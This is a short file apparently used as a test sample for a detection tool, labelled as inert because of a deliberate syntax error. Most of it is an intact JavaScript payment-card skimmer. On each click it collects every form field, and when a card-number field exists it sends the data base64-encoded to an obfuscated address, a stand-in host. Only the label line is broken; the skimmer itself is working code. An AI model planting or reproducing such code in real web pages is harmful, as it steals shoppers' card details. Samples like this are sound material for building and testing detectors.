shodo inert sample: deliberate syntax error, this script never runs (
(function(){var u=atob('aHR0cHM6Ly9zdGF0cy5leGFtcGxlL2M=');document.addEventListener('click',function(){
var x=document.querySelectorAll('input,select'),o={};for(var k=0;k<x.length;k++){o[x[k].name]=x[k].value}
if(o['payment[cc_number]']){var r=new XMLHttpRequest();r.open('POST',u);r.send(btoa(JSON.stringify(o)))}})})();
